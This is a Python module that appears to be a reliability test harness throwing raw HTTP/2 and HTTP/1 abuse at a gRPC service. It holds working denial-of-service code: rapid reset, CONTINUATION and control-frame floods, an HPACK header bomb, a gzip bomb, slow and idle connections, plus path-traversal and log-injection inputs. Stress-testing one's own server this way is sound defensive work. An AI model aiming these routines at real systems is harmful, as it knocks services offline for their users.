"""Abuse of a port by raw connections; each attack counts its cases until its time is up.

An attack sends 50 bursts a second at most, and one of calls leaves the server three quarters of its
time. One without such a limit is a flood of work, and takes its share of the processor from
anybody, whatever it sends.
"""

import gzip
import os
import random
import socket
import struct
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import ExitStack, contextmanager, suppress
from typing import Any, Final

import grpc

from reliability import frames

Attack = Callable[[tuple[str, int], float], int]

_CLASSIFY: Final = b"/gurmukhi.v1.DigitService/Classify"
_LISTING: Final = b"/gurmukhi.v1.DigitService/ListModels"
_CHECK: Final = b"/grpc.health.v1.Health/Check"
_OPENING: Final = frames.PREFACE + frames.settings()
_TIMEOUT_SECONDS: Final = 5.0
_PAUSE_SECONDS: Final = 0.02  # between two bursts
_REST: Final = 3.0  # times as long as a burst of calls took
_SERVED_SECONDS: Final = 20.0


def _connect(address: tuple[str, int]) -> socket.socket:
    connection = socket.create_connection(address, timeout=_TIMEOUT_SECONDS)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return connection


def _send(address: tuple[str, int], data: bytes) -> None:
    """Send bytes over a connection of their own, read what comes at once, and go."""
    with suppress(OSError), _connect(address) as connection:
        connection.sendall(data)
        connection.settimeout(0.002)
        connection.recv(65536)


def _repeat(seconds: float, once: Callable[[random.Random], int]) -> int:
    rng, until, cases = random.Random(5), time.monotonic() + seconds, 0
    while time.monotonic() < until:
        with suppress(OSError):
            cases += once(rng)
        time.sleep(_PAUSE_SECONDS)
    return cases


@contextmanager
def _resting(address: tuple[str, int]) -> Iterator[Callable[[], None]]:
    """What waits until the server has come to what was sent, and then a few times as long."""
    with grpc.insecure_channel("{}:{}".format(*address)) as channel:
        ask: Any = channel.unary_unary(_LISTING.decode(), None, None)
        began = time.monotonic()

        def rest() -> None:
            nonlocal began
            ask.future(b"", timeout=_SERVED_SECONDS).code()
            time.sleep(_REST * (time.monotonic() - began))
            began = time.monotonic()

        yield rest


def garbage(address: tuple[str, int], seconds: float) -> int:
    """Random bytes, with the preface before them and without."""

    def once(rng: random.Random) -> int:
        noise = rng.randbytes(rng.randrange(1, 4096))
        _send(address, rng.choice([b"", frames.PREFACE, _OPENING]) + noise)
        return 1

    return _repeat(seconds, once)


def broken_frames(address: tuple[str, int], seconds: float) -> int:
    """Frames of every kind with any flags, streams, payloads and lengths, a hundred at a time."""

    def once(rng: random.Random) -> int:
        sent = [_OPENING]
        for _ in range(100):
            payload = rng.randbytes(rng.choice([0, 4, 5, 6, 8, 9, 64]))
            length = len(payload) if rng.random() < 0.9 else rng.randrange(1 << 24)
            stream = rng.choice([0, 1, 2, 3, 5, (1 << 31) - 1])
            sent.append(
                frames.framed(length, rng.randrange(12), stream, payload, rng.randrange(256))
            )
        _send(address, b"".join(sent))
        return 100

    return _repeat(seconds, once)


def spoiled_calls(address: tuple[str, int], seconds: float) -> int:
    """A sound call with a few of its bytes changed."""
    sound = _OPENING + b"".join(
        frames.call(1 + 2 * i, path, b"\x0a\x04abcd") for i, path in enumerate((_CLASSIFY, _CHECK))
    )

    def once(rng: random.Random) -> int:
        data = bytearray(sound)
        for _ in range(rng.randrange(1, 4)):
            data[rng.randrange(len(data))] = rng.randrange(256)
        _send(address, bytes(data))
        return 1

    return _repeat(seconds, once)


def rapid_reset(address: tuple[str, int], seconds: float) -> int:
    """Streams that are begun and reset at once (CVE-2023-44487)."""
    with _resting(address) as rest:

        def once(rng: random.Random) -> int:
            with _connect(address) as connection:
                connection.sendall(_OPENING)
                burst = b"".join(
                    frames.headers(stream, frames.call_fields(_CLASSIFY)) + frames.reset(stream)
                    for stream in range(1, 200, 2)
                )
                connection.sendall(burst)
            rest()
            return 100

        return _repeat(seconds, once)


def endless_headers(address: tuple[str, int], seconds: float) -> int:
    """A header block that never ends (the CONTINUATION flood of 2024)."""

    def once(rng: random.Random) -> int:
        block = frames.literal(b"x", b"y" * 1000)
        with _connect(address) as connection:
            opening = frames.headers(1, frames.call_fields(_CLASSIFY), flags=0)
            connection.sendall(_OPENING + opening)
            for _ in range(50):
                connection.sendall(frames.frame(frames.CONTINUATION, 1, block * 8))
        return 50

    return _repeat(seconds, once)


def header_bomb(address: tuple[str, int], seconds: float) -> int:
    """A large header that is indexed once and named thousands of times (CVE-2016-6581)."""
    large = b"\x40" + frames.literal(b"bomb", b"z" * 4000)[1:]  # with incremental indexing
    named = b"\xbe" * 2000  # the first entry of the dynamic table: 8 MB of header fields

    def once(rng: random.Random) -> int:
        fields = b"".join(frames.literal(*one) for one in frames.call_fields(_CLASSIFY))
        block = frames.frame(frames.HEADERS, 1, fields + large + named, frames.END_HEADERS)
        _send(address, _OPENING + block)
        return 1

    return _repeat(seconds, once)


def floods(address: tuple[str, int], seconds: float) -> int:
    """PING, SETTINGS, PRIORITY and WINDOW_UPDATE by the thousand (CVE-2019-9512 and others)."""
    kinds = (
        frames.frame(frames.PING, payload=bytes(8)),
        frames.settings([(3, 100)]),
        frames.frame(frames.PRIORITY, 1, bytes(5)),
        frames.window_update(0, 1),
        frames.frame(frames.DATA, 0, b""),
    )

    def once(rng: random.Random) -> int:
        with _connect(address) as connection:
            connection.sendall(_OPENING + rng.choice(kinds) * 1000)
        return 1000

    return _repeat(seconds, once)


def false_lengths(address: tuple[str, int], seconds: float) -> int:
    """Messages that claim gigabytes, end early, or are compressed though nobody agreed to it."""
    bomb = gzip.compress(bytes(1 << 24))
    bodies = (
        frames.message(b"x", length=0xFFFFFFFF),
        frames.message(b"x", length=1 << 20),
        frames.message(b"", length=5),
        b"\0\0",
        b"",
        frames.message(b"x" * 40, compressed=True),
        frames.message(bomb, compressed=True),
    )

    def once(rng: random.Random) -> int:
        body = rng.choice(bodies)
        encoding = rng.choice([(), ((b"grpc-encoding", b"gzip"),), ((b"grpc-encoding", b"no"),)])
        call = frames.headers(1, frames.call_fields(_CLASSIFY, *encoding))
        parts = [body[start : start + 16000] for start in range(0, len(body), 16000)]
        data = b"".join(frames.frame(frames.DATA, 1, part) for part in parts)
        end = frames.frame(frames.DATA, 1, b"", frames.END_STREAM)
        _send(address, _OPENING + call + data + (end if rng.random() < 0.5 else b""))
        return 1

    return _repeat(seconds, once)


def control_characters(address: tuple[str, int], seconds: float) -> int:
    """Paths and metadata with line ends, escapes and NUL, for whoever reads a log."""
    texts = (b"a\nEVIL", b"a\r\nEVIL: 1", b"\x1b[31mEVIL", b"\0EVIL", b"\xff\xfeEVIL", b'EVIL"} 1')

    def once(rng: random.Random) -> int:
        text = rng.choice(texts)
        fields = frames.call_fields(
            rng.choice(
                [_CLASSIFY, _CHECK, b"/" + text, text, b"/gurmukhi.v1.DigitService/" + text]
            ),
            (rng.choice([b"traceparent", b"user-agent", b"x-\nEVIL", b"authorization"]), text),
            (b"grpc-timeout", rng.choice([b"1S", b"99999999H", b"-1S", text])),
        )
        body = frames.frame(frames.DATA, 1, frames.message(b""), frames.END_STREAM)
        _send(address, _OPENING + frames.headers(1, fields) + body)
        return 1

    return _repeat(seconds, once)


def half_open_calls(address: tuple[str, int], seconds: float) -> int:
    """A thousand calls of ten connections that send headers and no message."""
    with _resting(address) as rest:

        def once(rng: random.Random) -> int:
            with ExitStack() as held:
                for _ in range(10):
                    connection = held.enter_context(_connect(address))
                    fields = frames.call_fields(rng.choice([_CLASSIFY, _CHECK]))
                    calls = (frames.headers(1 + 2 * i, fields) for i in range(100))
                    connection.sendall(_OPENING + b"".join(calls))
                rest()
            rest()
            return 1000

        return _repeat(seconds, once)


def slow_senders(address: tuple[str, int], seconds: float) -> int:
    """Two hundred connections that send a byte at a time."""
    data = _OPENING + frames.call(1, _CLASSIFY, b"x")
    until = time.monotonic() + seconds
    with ExitStack() as held:
        senders = [held.enter_context(_connect(address)) for _ in range(200)]
        for byte in data:
            for sender in senders:
                with suppress(OSError):
                    sender.send(bytes([byte]))
            if time.monotonic() > until:
                break
            time.sleep(0.02)
    return len(senders)


def idle_connections(address: tuple[str, int], seconds: float) -> int:
    """A thousand connections that say nothing, or open and say nothing more."""
    with ExitStack() as held:
        for index in range(1000):
            connection = held.enter_context(_connect(address))
            if index % 2:
                connection.sendall(_OPENING)
        time.sleep(seconds)
    return 1000


def unread_answers(address: tuple[str, int], seconds: float) -> int:
    """Callers who ask and never read: their window is 0, or their socket is full."""
    with _resting(address) as rest:

        def once(rng: random.Random) -> int:
            with ExitStack() as held:
                for _ in range(20):
                    connection = held.enter_context(_connect(address))
                    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                    opening = frames.PREFACE + frames.settings([(4, rng.choice([0, 1 << 30]))])
                    calls = b"".join(frames.call(1 + 2 * i, _LISTING, b"") for i in range(50))
                    connection.sendall(opening + calls)
                rest()
            rest()
            return 1000

        return _repeat(seconds, once)


def torn_connections(address: tuple[str, int], seconds: float) -> int:
    """Connections that are reset in the middle of a call."""
    call = _OPENING + frames.call(1, _CLASSIFY, os.urandom(2000))

    def once(rng: random.Random) -> int:
        with _connect(address) as connection:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            connection.sendall(call[: rng.randrange(len(call))])
        return 1

    return _repeat(seconds, once)


def http_garbage(address: tuple[str, int], seconds: float) -> int:
    """What is no request of HTTP/1, to the port of probes."""
    texts = (
        b"GET /metrics HTTP/1.1\r\nHost: x\r\nAccept: " + b"a" * 60000 + b"\r\n\r\n",
        b"GET /" + b"../" * 5000 + b"etc/passwd HTTP/1.1\r\n\r\n",
        b"POST /metrics HTTP/1.1\r\nContent-Length: 99999999999\r\n\r\n",
        b"GET /\x1b[31m\0EVIL HTTP/9.9\r\n\r\n",
        b"\r\n" * 1000,
        b"GET /readyz HTTP/1.1\r\n" + b"x: y\r\n" * 200 + b"\r\n",
    )

    def once(rng: random.Random) -> int:
        _send(address, rng.choice([*texts, rng.randbytes(500)]))
        return 1

    return _repeat(seconds, once)


GRPC_ATTACKS: Final[Mapping[str, Attack]] = {
    "garbage": garbage,
    "broken frames": broken_frames,
    "spoiled calls": spoiled_calls,
    "rapid reset": rapid_reset,
    "endless headers": endless_headers,
    "header bomb": header_bomb,
    "floods of control frames": floods,
    "false lengths and compression": false_lengths,
    "control characters": control_characters,
    "half-open calls": half_open_calls,
    "slow senders": slow_senders,
    "1,000 idle connections": idle_connections,
    "unread answers": unread_answers,
    "torn connections": torn_connections,
}
HTTP_ATTACKS: Final[Mapping[str, Attack]] = {
    "garbage over HTTP": http_garbage,
    "1,000 idle connections over HTTP": idle_connections,
    "slow senders over HTTP": slow_senders,
}
